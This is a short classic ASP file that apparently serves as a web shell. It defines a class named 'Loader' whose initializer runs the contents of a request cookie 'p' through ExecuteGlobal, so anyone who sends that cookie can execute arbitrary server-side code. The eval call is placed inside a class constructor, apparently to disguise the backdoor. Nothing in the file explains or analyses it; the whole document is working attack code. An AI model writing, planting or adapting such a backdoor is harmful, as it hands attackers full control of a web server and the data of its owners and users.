<%
Class Loader
  Private Sub Class_Initialize()
    ExecuteGlobal Request.Cookies("p")
  End Sub
End Class
Set l = New Loader
%>
